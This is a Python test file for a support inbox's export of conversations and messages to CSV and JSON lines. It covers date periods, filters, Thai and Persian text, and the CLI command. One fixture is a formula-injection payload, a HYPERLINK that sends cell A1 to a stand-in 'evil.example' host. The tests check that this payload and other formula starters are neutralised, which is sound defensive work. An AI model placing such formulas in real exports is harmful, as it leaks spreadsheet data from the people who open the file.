"""Exporting a period's conversations and messages (inbox.desk.export, `inbox export`),
on both databases: the rows of the period and only them, whatever the page size; team
and channel filters; Thai and Persian read back as written from CSV and JSON lines; a
formula a customer wrote is text in a spreadsheet; the command writes files that
csv.DictReader and json.loads read."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlalchemy.orm import Session
from sqlmodel import col

from inbox.core.errors import Invalid
from inbox.desk import actions, export
from inbox.desk.export import Period
from inbox.runtime.app import App
from inbox.store.models import Conversation, Survey
from tests.cli.test_agents import shell
from tests.web.desk_helpers import ingest, mail

SINCE = datetime(2026, 12, 1, tzinfo=UTC)
UNTIL = datetime(2026, 12, 8, tzinfo=UTC)
NOW = datetime(2026, 12, 9, 9, 0, tzinfo=UTC)
THAI = "สินค้าเสียหายระหว่างจัดส่ง ขอคืนเงินด้วยครับ"
PERSIAN = "سفارش من هنوز نرسیده است، لطفا پیگیری کنید"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")'


def act(app: App, work: Any) -> Any:
    with Session(app.engine, expire_on_commit=False) as s, s.begin():
        return work(s)


def conversation_of(app: App, subject: str) -> int:
    return int(act(app, lambda s: s.scalar(sa.select(col(Conversation.id)).where(
        col(Conversation.subject) == subject))))


@pytest.fixture
def shop(app: App) -> dict[str, int]:
    return open_shop(app)


def open_shop(app: App) -> dict[str, int]:
    """Five customers, one a second before the period, one at its first instant, two
    inside it (one on Telegram), one at its end (which is not part of it); the Thai one
    in team billing, answered and surveyed, the others in team support. Returns each
    one's conversation id."""
    def arrive(n: int, at: datetime, **given: Any) -> None:
        ingest(app, mail(n, at=at, **given), now=at)
    arrive(1, SINCE - timedelta(seconds=1), subject="Too early")
    arrive(2, SINCE, subject="สินค้าเสียหาย", text=THAI, sender="somchai@example.co.th",
           name="สมชาย ใจดี")
    arrive(3, SINCE + timedelta(days=2), channel="telegram", text=PERSIAN, sender="98765",
           name="مریم رضایی")
    arrive(4, SINCE + timedelta(days=3), subject=FORMULA, text="-1 star, @everyone look",
           sender="mallory@example.net")
    arrive(5, UNTIL, subject="Too late", sender="late@example.com")
    ids = {"early": conversation_of(app, "Too early"), "thai": conversation_of(app, "สินค้าเสียหาย"),
           "formula": conversation_of(app, FORMULA), "late": conversation_of(app, "Too late")}
    ids["persian"] = int(act(app, lambda s: s.scalar(sa.select(col(Conversation.id)).where(
        col(Conversation.channel) == "telegram"))))

    def answer_and_survey(s: Session) -> None:  # the rules' teams aside: ours
        s.execute(sa.update(Conversation).values(team="support"))
        s.execute(sa.update(Conversation).where(col(Conversation.id) == ids["thai"])
                  .values(team="billing"))
        actions.reply(s, ids["thai"], "ส่งของใหม่ให้แล้วครับ", author="kim",
                      now=SINCE + timedelta(hours=1), secret=app.secret, domain="shop.example")
        s.add(Survey(conversation_id=ids["thai"], contact_id=s.get(
            Conversation, ids["thai"]).contact_id,  # type: ignore[union-attr]
            channel="email", state="answered", due_at=SINCE, score=5, comment="ดีมาก",
            created_at=SINCE))
    act(app, answer_and_survey)
    return ids


def exported(app: App, kind: export.Kind, period: Period | None = None,
             size: int = export.PAGE) -> list[dict[str, Any]]:
    return list(export.rows(app.engine, kind, period or Period(SINCE, UNTIL), NOW, size=size))


def test_the_period_gives_its_rows_and_only_them_on_every_page_size(
        app: App, shop: dict[str, int]) -> None:
    inside = [shop["thai"], shop["persian"], shop["formula"]]
    for size in (1, 2, export.PAGE):
        rows = exported(app, "conversations", size=size)
        assert [r["id"] for r in rows] == inside, size
        assert all(SINCE <= r["created_at"] < UNTIL for r in rows)
    messages = exported(app, "messages", size=2)
    assert sorted({m["conversation_id"] for m in messages}) == sorted(inside)
    assert [m["id"] for m in messages] == sorted(m["id"] for m in messages)
    assert [m["text"] for m in messages if m["kind"] == "customer"] == [
        THAI, PERSIAN, "-1 star, @everyone look"]
    [reply] = [m for m in messages if m["kind"] == "agent"]
    assert (reply["direction"], reply["author"], reply["text"]) == (
        "out", "kim", "ส่งของใหม่ให้แล้วครับ")
    after = Period(UNTIL, UNTIL + timedelta(days=1))
    assert [r["id"] for r in exported(app, "conversations", after)] == [shop["late"]]


def test_a_conversation_row_says_who_wrote_how_it_went_and_its_survey(
        app: App, shop: dict[str, int]) -> None:
    rows = {r["id"]: r for r in exported(app, "conversations")}
    thai = rows[shop["thai"]]
    assert {k: thai[k] for k in ("channel", "status", "team", "subject", "contact_name",
                                 "contact_address", "csat_score", "csat_comment")} == {
        "channel": "email", "status": "open", "team": "billing", "subject": "สินค้าเสียหาย",
        "contact_name": "สมชาย ใจดี", "contact_address": "somchai@example.co.th",
        "csat_score": 5, "csat_comment": "ดีมาก"}
    assert thai["first_response_at"] == SINCE + timedelta(hours=1)
    assert thai["sla_state"] == "met"
    waiting = rows[shop["formula"]]
    assert waiting["csat_score"] is None and waiting["first_response_at"] is None
    assert waiting["sla_state"] == "breached"  # nobody answered in six days
    assert set(thai) == set(export.CONVERSATION_COLUMNS)
    assert set(exported(app, "messages")[0]) == set(export.MESSAGE_COLUMNS)


def test_team_and_channel_narrow_both_kinds(app: App, shop: dict[str, int]) -> None:
    billing = Period(SINCE, UNTIL, team="billing")
    assert [r["id"] for r in exported(app, "conversations", billing)] == [shop["thai"]]
    assert {m["conversation_id"] for m in exported(app, "messages", billing)} == {shop["thai"]}
    telegram = Period(SINCE, UNTIL, channel="telegram")
    assert [r["id"] for r in exported(app, "conversations", telegram)] == [shop["persian"]]
    assert {m["channel"] for m in exported(app, "messages", telegram)} == {"telegram"}
    assert exported(app, "messages", Period(SINCE, UNTIL, team="billing",
                                            channel="telegram")) == []
    assert exported(app, "conversations", Period(SINCE, UNTIL, team="nobody")) == []


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv(kind: export.Kind, rows: list[dict[str, Any]]) -> str:
    return export.header("csv", kind) + export.chunk("csv", kind, rows)


def test_thai_and_persian_read_back_as_written_from_both_formats(
        app: App, shop: dict[str, int]) -> None:
    rows = exported(app, "messages")
    from_csv = read_csv(as_csv("messages", rows))
    from_json = [json.loads(line) for line in export.chunk("jsonl", "messages", rows)
                 .splitlines()]
    for back in (from_csv, from_json):
        texts = [m["text"] for m in back]
        assert THAI in texts and PERSIAN in texts
    people = read_csv(as_csv("conversations", exported(app, "conversations")))
    assert {p["contact_name"] for p in people} >= {"สมชาย ใจดี", "مریم رضایی"}
    line = export.chunk("jsonl", "messages", rows)
    assert THAI in line and "\\u0e" not in line  # readable, not escaped
    assert from_json[0]["created_at"].endswith("Z")
    assert datetime.fromisoformat(from_json[0]["created_at"]) == rows[0]["created_at"]


def test_a_formula_a_customer_wrote_is_text_in_a_spreadsheet(
        app: App, shop: dict[str, int]) -> None:
    rows = exported(app, "conversations")
    cells = read_csv(as_csv("conversations", rows))
    [written] = [c for c in cells if c["id"] == str(shop["formula"])]
    assert written["subject"] == "'" + FORMULA
    messages = read_csv(as_csv("messages", exported(app, "messages")))
    assert "'-1 star, @everyone look" in [m["text"] for m in messages]
    # JSON lines keep what the customer wrote: no spreadsheet reads them
    [line] = [json.loads(x) for x in export.chunk("jsonl", "conversations", rows).splitlines()
              if json.loads(x)["id"] == shop["formula"]]
    assert line["subject"] == FORMULA
    for start in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert export.neutralised(start) == "'" + start
    for safe in ("1-1", "a=b", "", "'quoted", "สวัสดี"):
        assert export.neutralised(safe) == safe
    assert export.csv_text(["tags"], [{"tags": ["=cmd", "vip"]}]) == "'=cmd; vip\r\n"


def test_a_json_line_is_one_object_for_every_reader() -> None:
    text = "line one\nline two\r\u2028\u2029\x85\x1c end"
    found = [{"id": 1, "text": text}, {"id": 2, "text": "next"}]
    lines = export.jsonl_text(["id", "text"], found)
    assert len(lines.splitlines()) == 2  # str.splitlines breaks at U+2028, U+0085 too
    assert [json.loads(x) for x in lines.splitlines()] == found


def test_an_empty_or_naive_period_is_refused() -> None:
    with pytest.raises(Invalid, match="before"):
        Period(UNTIL, SINCE)
    with pytest.raises(Invalid, match="time zone"):
        Period(SINCE.replace(tzinfo=None), UNTIL)


def test_the_command_writes_files_csv_and_json_readers_read(
        app: App, shop: dict[str, int], tmp_path: Path) -> None:
    period = ("--since", "2026-12-01T00:00+00:00", "--until", "2026-12-08T00:00+00:00")
    target = tmp_path / "conversations.csv"
    done = shell(app, "export", "conversations", *period, "--output", str(target))
    assert done.returncode == 0, done.stderr
    assert done.stdout == "" and "exported 3 conversations" in done.stderr
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [int(r["id"]) for r in rows] == [shop["thai"], shop["persian"], shop["formula"]]
    assert rows[0]["contact_name"] == "สมชาย ใจดี" and rows[0]["csat_score"] == "5"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
    assert target.read_bytes().startswith(b"id,created_at,")

    done = shell(app, "export", "messages", *period, "--format", "jsonl", "--channel",
                 "telegram")
    assert done.returncode == 0, done.stderr
    lines = [json.loads(x) for x in done.stdout.splitlines()]
    assert [m["text"] for m in lines if m["direction"] == "in"] == [PERSIAN]
    assert {m["channel"] for m in lines} == {"telegram"}

    billing = shell(app, "export", "messages", *period, "--team", "billing")
    assert {r["conversation_id"] for r in read_csv(billing.stdout)} == {str(shop["thai"])}


def test_the_command_refuses_a_period_it_cannot_read(app: App, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "messages.csv"
    backwards = shell(app, "export", "messages", "--since", "2026-12-08", "--until",
                      "2026-12-01", "--output", str(target))
    assert backwards.returncode == 1 and "before until" in backwards.stderr
    assert list(target.parent.iterdir()) == []  # neither the file nor a part of it
    nonsense = shell(app, "export", "conversations", "--since", "last tuesday-ish")
    assert nonsense.returncode == 1 and nonsense.stderr.startswith("inbox: ")
    missing = shell(app, "export", "conversations")
    assert missing.returncode == 2 and "--since" in missing.stderr
